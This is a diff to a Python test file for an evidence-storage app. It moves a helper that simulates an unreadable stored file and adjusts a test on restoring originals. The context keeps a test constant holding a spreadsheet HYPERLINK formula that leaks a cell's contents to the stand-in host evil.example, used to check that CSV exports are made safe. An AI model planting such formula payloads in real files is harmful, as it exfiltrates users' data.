@@ -25,6 +25,7 @@ from storage.base import CaseKey, ReadState
 from storage.errors import NotEnoughDisk
 from storage.export import export_parts, restore_original
 from storage.export_text import ExportText, csv_safe
+from tests.backends import make_unreadable
 from tests.terminal_chat import press, say
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
@@ -209,19 +210,12 @@ async def test_a_formula_caption_is_text_in_every_csv(term, tmp_path, zh):
 # ----------------------------------------------------------------------------- a disk error is not damage
 
 
-def make_unreadable(storage, case_id: str, blob_id: str) -> None:
-    """An I/O error on read, even as root: the file's name now holds a folder."""
-    path = storage.vault.path(case_id, blob_id)
-    path.unlink()
-    path.mkdir()
-
-
 async def test_an_unreadable_original_is_not_called_damaged(term, tmp_path, zh, storage, caplog):
     await upload(term, tmp_path, "a.txt", b"good one")
     await upload(term, tmp_path, "b.txt", b"cannot be read now, caption secret", "CAPTION-SECRET")
     case = await case_of(term)
     items = await storage.evidence(case)
-    make_unreadable(storage, case.id, items[1].blob_id)
+    await make_unreadable(storage, case.id, items[1].blob_id)
     with caplog.at_level(logging.ERROR):
         original = await restore_original(storage, case, ExportText.from_locale(zh), 2, tmp_path)
     assert original.state is ReadState.UNREADABLE and original.path is None
